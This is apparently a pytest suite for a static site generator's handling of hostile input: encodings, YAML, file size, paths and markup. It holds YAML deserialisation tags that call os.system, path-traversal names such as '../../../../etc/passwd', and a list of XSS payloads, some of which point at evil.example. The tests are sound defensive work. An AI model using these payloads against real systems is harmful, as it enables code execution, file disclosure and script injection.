"""Hostile input, case by case: encodings, YAML, size, paths and markup never crash, leak or escape the site.

Each test builds a whole site inline (the `build_files` fixture) and asserts on every output file, so a
problem caught in one template but leaked by another (feed, sitemap, JSON-LD) still fails.
"""

from __future__ import annotations

import json
import re
import time
import unicodedata
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree

import pytest

from generator.config import parse_config
from tests.conftest import article

GOOD = {"seeds/baik.md": article("Berita Baik", "2024-08-19", ["Kota"], body="Isi yang baik.")}
GOOD_PAGE = "2024/08/19/berita-baik/index.html"


def _text_files(result) -> dict[str, str]:  # type: ignore[no-untyped-def]
    return {path: data for path, data in result.files.items() if isinstance(data, str)}


def _assert_sane(result) -> None:  # type: ignore[no-untyped-def]
    """What every hostile build must give: no traceback, a known status, the good article still built."""
    assert "Traceback" not in result.stderr, result.stderr
    assert result.status in (0, 1), result.stderr
    assert GOOD_PAGE in result.files, result.stderr


def _no_bom_or_cr(result) -> None:  # type: ignore[no-untyped-def]
    for path, data in result.files.items():
        if path.startswith("pagefind/"):
            continue
        raw = data.encode("utf-8") if isinstance(data, str) else data
        if path.endswith((".html", ".xml", ".txt", ".css", ".js", ".json")):
            assert b"\r" not in raw, path
            assert b"\xef\xbb\xbf" not in raw, path


# --- encodings ---------------------------------------------------------------------------------------------

LATIN1 = "Pemerintah kota menolak tuduhan itu, kata café dan naïve résumé di Medan.\nParagraf kedua à la carte.\n"


@pytest.mark.parametrize(
    ("raw", "title"),
    [
        (b"---\ntitle: Kabar Utama\n---\nIsi.\n", "Kabar Utama"),
        (b"\xef\xbb\xbf---\ntitle: Kabar Utama\n---\nIsi.\n", "Kabar Utama"),
        (b"---\r\ntitle: Kabar Utama\r\n---\r\nIsi satu.\r\n\r\nIsi dua.\r\n", "Kabar Utama"),
        (b"---\rtitle: Kabar Utama\r---\rIsi satu.\r\rIsi dua.\r", "Kabar Utama"),
        (b"\xef\xbb\xbf---\r\ntitle: Kabar Utama\r\n---\r\nIsi.", "Kabar Utama"),
        ("\ufeff---\ntitle: Kabar Utama\n---\nIsi.\n".encode("utf-16"), "Kabar Utama"),
        ("---\ntitle: Kabar Utama\n---\nIsi.\n".encode("utf-16-le").join([b"\xff\xfe", b""]), "Kabar Utama"),
    ],
    ids=["utf8", "utf8-bom", "crlf", "cr", "bom-crlf-no-final-newline", "utf16-bom", "utf16le-bom"],
)
def test_every_unicode_encoding_and_line_ending_reads_the_same(build_files, raw: bytes, title: str) -> None:
    result = build_files({**GOOD, "seeds/2024-09-01-kabar.md": raw})
    _assert_sane(result)
    page = result.text("2024/09/01/kabar-utama/index.html")
    assert f"<h1>{title}</h1>" in page
    _no_bom_or_cr(result)


@pytest.mark.parametrize("encoding", ["latin-1", "cp1252"])
def test_legacy_encoding_is_detected_and_named_in_a_warning(build_files, encoding: str) -> None:
    text = LATIN1 if encoding == "latin-1" else LATIN1.replace("kata", "“kata”")
    result = build_files({**GOOD, "seeds/lama.txt": text.encode(encoding)})
    _assert_sane(result)
    notes = [d for d in result.diagnostics if d.path == "seeds/lama.txt"]
    assert [d.severity for d in notes] == ["warning"], result.messages
    assert "not UTF-8" in notes[0].message
    assert re.search(r"(latin|1252|iso-8859)", notes[0].message.lower()), notes[0].message
    pages = "".join(_text_files(result).values())
    assert "café" in pages and "résumé" in pages and "naïve" in pages
    assert "\ufffd" not in pages


@pytest.mark.parametrize(
    ("raw", "why"),
    [
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4, "binary"),
        (b"\x00" * 64, "binary"),
        (b"", "empty"),
        (b"   \n\t\n\r\n  ", "empty"),
        (b"\xef\xbb\xbf", "empty"),
        (b"\xef\xbb\xbf\r\n\r\n", "empty"),
    ],
    ids=["png", "nul-bytes", "empty", "whitespace", "bom-only", "bom-blank-lines"],
)
def test_binary_empty_and_blank_files_are_skipped_with_a_named_warning(build_files, raw: bytes, why: str) -> None:
    result = build_files({**GOOD, "seeds/aneh.txt": raw})
    _assert_sane(result)
    notes = [d for d in result.diagnostics if d.path == "seeds/aneh.txt"]
    assert [d.severity for d in notes] == ["warning"], result.messages
    assert why in notes[0].message
    assert result.build is not None and result.build.articles == 1


# --- YAML: front matter, sidecars and site.yml alike --------------------------------------------------------

BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(8)
)
DEEP = "title: " + "[" * 5000 + "]" * 5000 + "\n"
DEEP_BLOCK = "".join("  " * i + f"k{i}:\n" for i in range(60)) + "  " * 60 + "v\n"


def _where(kind: str, yaml_text: str) -> tuple[dict[str, str], str, int]:
    """Files putting `yaml_text` in front matter, a sidecar or site.yml; the path shown; the first YAML line."""
    if kind == "front matter":
        return {"seeds/x.md": f"---\n{yaml_text}---\nIsi.\n"}, "seeds/x.md", 2
    if kind == "sidecar":
        return {"seeds/x.md": "Isi.\n", "seeds/x.yml": yaml_text}, "seeds/x.yml", 1
    return {"site.yml": yaml_text}, "site.yml", 1


KINDS = ["front matter", "sidecar", "site.yml"]


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize(
    "tagged",
    [
        "title: !!python/object/apply:os.system ['touch PWNED']\n",
        "title: !!python/object/new:subprocess.Popen [['touch', 'PWNED']]\n",
        "title: !!python/name:os.system\n",
        "title: !custom thing\n",
    ],
    ids=["apply", "new", "name", "local-tag"],
)
def test_yaml_object_tags_are_never_executed(build_files, kind: str, tagged: str) -> None:
    files, shown, _ = _where(kind, tagged)
    result = build_files({**GOOD, **files})
    assert "Traceback" not in result.stderr
    assert not list(result.root.rglob("PWNED"))
    assert [d.severity for d in result.diagnostics if d.path == shown] == ["error"], result.messages


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("hostile", [BOMB, DEEP, DEEP_BLOCK], ids=["alias-bomb", "deep-flow", "deep-block"])
def test_alias_bombs_and_deep_documents_are_refused_fast(build_files, kind: str, hostile: str) -> None:
    files, shown, _ = _where(kind, hostile)
    started = time.monotonic()
    result = build_files({**GOOD, **files})
    assert time.monotonic() - started < 20
    assert "Traceback" not in result.stderr
    refused = [d for d in result.diagnostics if d.path == shown and d.severity == "error"]
    assert refused and "YAML" in refused[0].message, result.messages


@pytest.mark.parametrize("kind", KINDS)
def test_yaml_syntax_error_names_file_and_line(build_files, kind: str) -> None:
    files, shown, first = _where(kind, "title: Baik\ntags: [satu, dua\nplace: x\n")
    result = build_files({**GOOD, **files})
    assert "Traceback" not in result.stderr
    problems = [d for d in result.diagnostics if d.path == shown]
    assert problems and problems[0].severity == "error" and "YAML" in problems[0].message
    assert problems[0].line is not None and first + 1 <= problems[0].line <= first + 3


@pytest.mark.parametrize(
    ("kind", "yaml_text", "field"),
    [
        ("front matter", "date: 2024-02-30\n", "date"),
        ("sidecar", "date: 2024-02-30\n", "date"),
        ("front matter", "date: 2023-02-29\n", "date"),
        ("sidecar", "title: [not, text]\n", "title"),
        ("front matter", "tags: {a: 1}\n", "tags"),
        ("sidecar", "draft: 1\n", "draft"),
        ("site.yml", "per_page: many\n", "per_page"),
        ("site.yml", "per_page: 0\n", "per_page"),
        ("site.yml", "title: [a]\n", "title"),
        ("site.yml", "relative_urls: 2024-02-30\n", "relative_urls"),
        ("site.yml", "max_seed_bytes: -1\n", "max_seed_bytes"),
    ],
)
def test_wrong_types_and_impossible_dates_name_file_and_field(
    build_files, kind: str, yaml_text: str, field: str
) -> None:
    files, shown, first = _where(kind, "title: Baik\n" + yaml_text if kind != "site.yml" else yaml_text)
    result = build_files({**GOOD, **files})
    assert "Traceback" not in result.stderr
    problems = [d for d in result.diagnostics if d.path == shown and d.severity == "error"]
    assert problems, result.messages
    assert f"`{field}`" in problems[0].message
    assert problems[0].line is not None
    if kind == "site.yml":
        assert result.status == 2 and result.files == {}


# --- size ---------------------------------------------------------------------------------------------------


def test_huge_seed_is_refused_clearly_without_reading_it_all(build_files, tmp_path: Path) -> None:
    root = tmp_path / "huge"
    (root / "seeds").mkdir(parents=True)
    with open(root / "seeds" / "raksasa.txt", "wb") as handle:
        handle.truncate(40 * 1024 * 1024)  # sparse: 40 MB that cost nothing to write
    with open(root / "seeds" / "garis.txt", "wb") as handle:
        handle.write(b"kata " * (6 * 1024 * 1024))  # 30 MB, one endless line
    started = time.monotonic()
    result = build_files(GOOD, root=root)
    assert time.monotonic() - started < 30
    _assert_sane(result)
    for name in ("raksasa.txt", "garis.txt"):
        notes = [d for d in result.diagnostics if d.path == f"seeds/{name}"]
        assert [d.severity for d in notes] == ["error"], result.messages
        assert "limit" in notes[0].message and "max_seed_bytes" in notes[0].message


def test_seed_size_limit_is_configurable(build_files) -> None:
    line = "kata panjang " * 20_000  # ~260 kB on one line
    result = build_files(
        {**GOOD, "seeds/panjang.txt": line + "\n", "seeds/pendek.txt": line[:60_000] + "\n"},
        config="max_seed_bytes: 100000\n",
    )
    _assert_sane(result)
    refused = [d for d in result.diagnostics if d.path == "seeds/panjang.txt"]
    assert [d.severity for d in refused] == ["error"] and "97.7 kB limit" in refused[0].message
    assert not [d for d in result.diagnostics if d.path == "seeds/pendek.txt" and d.severity == "error"]
    assert result.build is not None and result.build.articles == 2


def test_raising_the_limit_rereads_a_seed_refused_before(build_files) -> None:
    line = "kata panjang " * 10_000
    first = build_files({**GOOD, "seeds/panjang.txt": line}, config="max_seed_bytes: 50000\n")
    assert first.build is not None and first.build.articles == 1
    (first.root / "site.yml").write_text("max_seed_bytes: 500000\n")
    second = build_files.run(first.root)
    assert second.status == 0, second.stderr
    assert second.build is not None and second.build.articles == 2


# --- paths --------------------------------------------------------------------------------------------------


def _outside(result) -> list[str]:  # type: ignore[no-untyped-def]
    """Files under the project written by the build outside site/, the cache and the inputs."""
    allowed = ("site/", "seeds/", ".arsip-cache/", "templates/", "static/")
    found = []
    for path in result.root.rglob("*"):
        rel = path.relative_to(result.root).as_posix()
        if path.is_file() and not rel.startswith(allowed) and rel not in ("site.yml", ".site.lock"):
            found.append(rel)
    return found


HOSTILE_NAMES = [
    "../../../../etc/passwd",
    "..",
    "../..",
    "a/../../b",
    "..\\..\\windows\\system32",
    "nul\x00byte",
    "CON",
    "con.txt",
    "aux",
    "LPT1",
    "/etc/shadow",
    "%2e%2e%2f%2e%2e",
    "\u202eevil\u202d",
    "\u2024\u2024/\u2024\u2024",
    "．．／．．",
    "index.html",
    "tags",
    "pagefind",
    "",
]


@pytest.mark.parametrize("name", HOSTILE_NAMES, ids=lambda n: repr(n)[1:-1][:20] or "empty")
def test_hostile_slugs_tags_and_titles_stay_inside_the_site(build_files, name: str) -> None:
    quoted = json.dumps(name)
    tags = f"[{quoted}, {json.dumps(name + 'x')}]"
    seed = f"---\ntitle: {quoted}\nslug: {quoted}\ntags: {tags}\ndate: 2024-09-02\n---\nIsi.\n"
    result = build_files({**GOOD, "seeds/jahat.md": seed})
    _assert_sane(result)
    assert _outside(result) == []
    for path in result.files:
        parts = path.split("/")
        assert ".." not in parts and "" not in parts and "\\" not in path and "\x00" not in path, path
        assert not any(re.fullmatch(r"(con|prn|aux|nul|com\d|lpt\d)(\..*)?", p, re.I) for p in parts), path
    assert result.build is not None and result.build.articles == 2


def test_hostile_permalink_pattern_stays_inside_the_site(build_files) -> None:
    result = build_files(
        {**GOOD, "seeds/x.md": article("Judul", "2024-09-02", slug="../../x")},
        config="permalink: /../../{year}/../{slug}/\n",
    )
    assert "Traceback" not in result.stderr
    assert _outside(result) == []
    assert all(".." not in p.split("/") for p in result.files)


def test_symlink_out_of_seeds_to_a_folder_is_not_followed(build_files, tmp_path: Path) -> None:
    secret = tmp_path / "rahasia"
    secret.mkdir()
    (secret / "kunci.md").write_text(article("Kunci Rahasia", "2024-01-01"))
    root = tmp_path / "proj"
    (root / "seeds").mkdir(parents=True)
    (root / "seeds" / "lubang").symlink_to(secret, target_is_directory=True)
    (root / "seeds" / "berkas.md").symlink_to(secret / "kunci.md")
    result = build_files(GOOD, root=root)
    _assert_sane(result)
    shown = {d.path for d in result.warnings()}
    assert {"seeds/lubang", "seeds/berkas.md"} <= shown, result.messages
    assert "Kunci Rahasia" not in "".join(_text_files(result).values())


def test_tags_differing_by_case_or_unicode_form_are_one_tag(build_files) -> None:
    nfc, nfd = unicodedata.normalize("NFC", "Café Kopi"), unicodedata.normalize("NFD", "Café Kopi")
    result = build_files(
        {
            **GOOD,
            "seeds/a.md": article("Satu", "2024-09-01", [json.dumps(nfc)]),
            "seeds/b.md": article("Dua", "2024-09-02", [json.dumps(nfd.upper())]),
            "seeds/c.md": article("Tiga", "2024-09-03", [json.dumps("ＣＡＦÉ  kopi")]),
        }
    )
    _assert_sane(result)
    tag_pages = [p for p in result.files if p.startswith("tags/cafe") and p.endswith("index.html")]
    assert tag_pages == ["tags/cafe-kopi/index.html"], tag_pages
    page = result.text("tags/cafe-kopi/index.html")
    assert all(title in page for title in ("Satu", "Dua", "Tiga"))


def test_two_seeds_wanting_the_same_url_both_survive_with_a_warning(build_files) -> None:
    result = build_files(
        {
            **GOOD,
            "seeds/a.md": article("Judul Kembar", "2024-09-01", body="Isi pertama."),
            "seeds/b.md": article("Lain", "2024-09-01", slug="judul-kembar", body="Isi kedua."),
            "seeds/c.txt": "Isi ketiga yang berbeda sama sekali.\n",
            "seeds/c.yml": "title: Judul Kembar\ndate: 2024-09-01\n",
        }
    )
    _assert_sane(result)
    pages = sorted(p for p in result.files if p.startswith("2024/09/01/judul-kembar"))
    assert len(pages) == 3, pages
    bodies = "".join(result.text(p) for p in pages)
    assert all(text in bodies for text in ("Isi pertama.", "Isi kedua.", "Isi ketiga"))
    assert len([d for d in result.warnings() if "already taken" in d.message]) == 2


# --- markup -------------------------------------------------------------------------------------------------

EVIL = "</script><script>alert(1)</script>]]><!--<b onmouseover=alert(2)>&amp;\"'"


class _Elements(HTMLParser):
    """Every element start tag of a page with its attributes, and the text of each <script>."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.scripts: list[tuple[dict[str, str], str]] = []
        self._in_script: dict[str, str] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        attributes = {name: value or "" for name, value in attrs}
        self.tags.append((tag, attributes))
        if tag == "script":
            self._in_script = attributes
            self.scripts.append((attributes, ""))

    def handle_data(self, data: str) -> None:
        if self._in_script is not None:
            attributes, text = self.scripts[-1]
            self.scripts[-1] = (attributes, text + data)

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._in_script = None


def assert_no_active_markup(html: str, path: str) -> None:
    """No element or attribute of the page can run script, load a frame or restyle the page."""
    parsed = _Elements()
    parsed.feed(html)
    for tag, attributes in parsed.tags:
        assert tag not in ("iframe", "object", "embed", "style", "frame", "base", "svg", "math"), (path, tag)
        for name, value in attributes.items():
            assert not name.startswith("on"), (path, tag, name)
            assert name != "style", (path, tag)
            if name in ("href", "src", "action", "formaction", "data", "xlink:href"):
                scheme = re.sub(r"[\s\x00-\x1f]", "", value).lower().split(":", 1)[0]
                assert scheme not in ("javascript", "data", "vbscript"), (path, tag, value)
    for attributes, text in parsed.scripts:
        if attributes.get("type") == "application/ld+json":
            assert "<" not in text, path  # inert data that cannot close its element
        else:
            assert "src" in attributes and not text.strip(), (path, attributes)  # no inline script at all


@pytest.mark.parametrize("kind", ["front matter", "sidecar"])
def test_hostile_metadata_is_escaped_in_html_xml_and_json_ld(build_files, kind: str) -> None:
    fields = {"title": EVIL, "summary": EVIL, "place": EVIL, "outlet": EVIL}
    yaml_text = "".join(f"{k}: {json.dumps(v)}\n" for k, v in fields.items()) + f"tags: [{json.dumps(EVIL)}]\n"
    yaml_text += "date: 2024-09-05\n"
    files = {"seeds/x.md": f"---\n{yaml_text}---\nIsi.\n"} if kind == "front matter" else {
        "seeds/x.md": "Isi.\n", "seeds/x.yml": yaml_text}  # fmt: skip
    result = build_files({**GOOD, **files}, config=f"title: {json.dumps(EVIL)}\ndescription: {json.dumps(EVIL)}\n")
    _assert_sane(result)
    assert result.status == 0, result.messages
    for path, text in _text_files(result).items():
        if path.endswith(".html"):
            assert_no_active_markup(text, path)
            for block in re.findall(r'<script type="application/ld\+json">(.*?)</script>', text, re.S):
                data = json.loads(block)
                assert "<" not in block
                if "serangan" in path or path.startswith("2024/09/05/"):
                    assert data["headline"] == EVIL and data["isPartOf"]["name"] == EVIL
        elif path.endswith(".xml"):
            root = ElementTree.fromstring(text.encode("utf-8"))  # well-formed despite `]]>` and `<`
            assert root is not None
    feed = result.text("feed.xml")
    assert EVIL.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")[:40] in feed


MARKDOWN_ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">klik</a>',
    "[klik](javascript:alert(1))",
    "[klik](JaVaScRiPt&#58;alert(1))",
    '<iframe src="https://evil.example/"></iframe>',
    "<style>body{display:none}</style>",
    '<p style="position:fixed;inset:0">tutup</p>',
    "<svg><script>alert(1)</script></svg>",
    '<object data="x.swf"></object><embed src=x>',
    "<form action=https://evil.example><input name=p></form>",
    "<div onclick=alert(1)>x</div>",
    "</article></main><script>alert(1)</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
]


@pytest.mark.parametrize("attack", MARKDOWN_ATTACKS, ids=range(len(MARKDOWN_ATTACKS)))
def test_raw_html_in_markdown_is_sanitised(build_files, attack: str) -> None:
    result = build_files({**GOOD, "seeds/x.md": article("Serangan", "2024-09-06", body=f"Awal.\n\n{attack}\n\nAkhir.")})
    _assert_sane(result)
    page = result.text("2024/09/06/serangan/index.html")
    assert_no_active_markup(page, "article")
    assert page.lower().count("<form") == result.text(GOOD_PAGE).lower().count("<form")  # the theme's own only
    assert page.count("<main") == page.count("</main>") == 1
    assert "Akhir." in page


def test_sanitiser_leaves_plain_markdown_alone(build_files) -> None:
    body = 'Teks **tebal** dan [tautan](https://example.org/).\n\n<b>tebal</b> <abbr title="x">ab</abbr>'
    result = build_files({**GOOD, "seeds/x.md": article("Aman", "2024-09-06", body=body)})
    page = result.text("2024/09/06/aman/index.html")
    assert "<strong>tebal</strong>" in page and 'href="https://example.org/"' in page and "<b>tebal</b>" in page


def test_config_for_site_limit_has_a_sensible_default() -> None:
    config, problems = parse_config("", "site.yml")
    assert problems == [] and config is not None
    assert 1024 * 1024 <= config.max_seed_bytes <= 64 * 1024 * 1024


def test_markdown_footnotes_reach_their_targets_and_no_other_id_survives(build_files) -> None:
    body = (
        "Banjir[^1] surut[^catatan].\n\n[^1]: Menurut BPBD.\n[^catatan]: Pukul 10.\n\n"
        '<p id="main">klobber</p> <sup id="search">s</sup> <a id="x" name="y" href="#main">z</a>'
    )
    result = build_files({**GOOD, "seeds/x.md": article("Catatan", "2024-09-06", body=body)})
    _assert_sane(result)
    page = result.text("2024/09/06/catatan/index.html")
    article_html = page[page.index("<article") : page.index("</article>")]
    ids = re.findall(r'\bid="([^"]+)"', page)
    for target in re.findall(r'href="#([^"]+)"', article_html):
        assert ids.count(target) == 1, f"#{target} has {ids.count(target)} targets"
    assert {"fn:1", "fnref:1", "fn:catatan", "fnref:catatan"} <= set(ids)
    assert ids.count("main") == page.count('id="main"') == 1, "the body took the theme's id"
    assert 'id="search"' not in article_html and 'id="x"' not in article_html and "name=" not in article_html
